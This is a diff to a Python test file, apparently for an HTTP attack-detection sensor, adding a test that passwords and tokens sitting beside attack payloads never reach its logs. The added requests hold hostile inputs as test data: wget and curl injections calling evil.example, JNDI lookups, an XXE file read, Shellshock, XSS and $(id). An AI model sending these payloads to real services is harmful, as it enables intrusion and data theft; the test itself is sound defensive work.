@@ -20,6 +20,8 @@ from tests.cli.running import Live
 from tests.cli.test_crew import office_frames
 from tests.conftest import Cable
 from tests.hostile.rows import REPOSITORY, Guard, NotHere, Row
+from tests.hostile.witness import conversation, watch
+from tests.http.wire import get, post, reply
 
 PSEUDONYMOUS = "sensor/logs/sinks/pseudonymous.py"
 ROWS = {
@@ -69,6 +71,15 @@ ROWS = {
     ),
     "P4": Row(
         "payload in logs, messages and core dumps",
+        guards=(
+            Guard("sensor/http/attacks.py", "return found[0] if whole is None else whole[0]", "return text"),
+            Guard("sensor/http/lookups.py", "_BORDER.split(lookup[:MAX_LOOKUP], 1)[0]", "lookup"),
+            Guard(
+                "sensor/http/attacks.py",
+                "return text[: brace.end() if other is None else other.start()]",
+                "return text",
+            ),
+        ),
         tests=(
             "service/test_privileges.py::test_started_as_root_it_becomes_nobody_and_can_do_nothing_else",
             "cli/test_disguise.py::test_a_bug_of_ours_is_told_without_payload",
@@ -252,3 +263,32 @@ def test_p4_secrets_are_in_no_log_and_no_message(name: str, tmp_path: Path, capf
     said = capfd.readouterr()
     told = (said.out + said.err).encode() + b"".join(path.read_bytes() for path in (tmp_path / name).iterdir())
     assert [secret for secret in secrets if secret in told] == []
+
+
+FORM = b"Content-Type: application/x-www-form-urlencoded"
+JSON = b"Content-Type: application/json"
+XML = b"Content-Type: text/xml"
+BESIDE = {
+    "form": post(b"/a", b"cmd=;wget http://evil.example/x;&password=HUNTER2&card=HUNTER2", FORM),
+    "form, bean": post(b"/a", b"class.module.classLoader.a=HUNTER2&b=HUNTER2", FORM),
+    "json": post(b"/b", b'{"q":"${jndi:ldap://evil.example/a}","password":"HUNTER2"}', JSON),
+    "json, lookup without end": post(b"/b", b'{"q":"${jndi:ldap://evil.example/a","password":"HUNTER2"}', JSON),
+    "json, command": post(b"/b", b'{"q":"|curl http://evil.example/x","password":"HUNTER2"}', JSON),
+    "xml": post(b"/c", b"<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///x'>]><a><password>HUNTER2</password></a>", XML),
+    "xml, entity": post(b"/c", b"<!DOCTYPE a [<!ENTITY b 'HUNTER2'>]><a><password>&b;</password></a>", XML),
+    "cookie": get(b"/d", b"Cookie: sid=HUNTER2; x=${jndi:ldap://evil.example/a}; y=HUNTER2"),
+    "cookie, no blanks": get(b"/d", b"Cookie: sid=HUNTER2;x=${jndi:ldap://evil.example/a;y=HUNTER2"),
+    "cookie, function": get(b"/d", b"Cookie: () { HUNTER2; }; sid=HUNTER2"),
+    "api key": get(b"/e", b"X-Api-Key: <script>alert(1)</script>HUNTER2"),
+    "token": get(b"/e", b"X-Auth-Token: <?php HUNTER2"),
+    "bearer": get(b"/f", b"Authorization: Bearer HUNTER2 ${jndi:ldap://evil.example/a}HUNTER2"),
+    "proxy": get(b"/f", b"Proxy-Authorization: Bearer HUNTER2 $(id) HUNTER2"),
+}
+
+
+@pytest.mark.parametrize("name", BESIDE)
+def test_p4_what_stands_beside_an_attack_is_in_no_log(name: str) -> None:
+    seen = watch(conversation(("c", BESIDE[name]), ("s", reply())))
+    (told,) = seen.of("cleartext")
+    assert told.get("suspect") or told.get("lookups")
+    assert "HUNTER2" not in json.dumps(seen.logs)
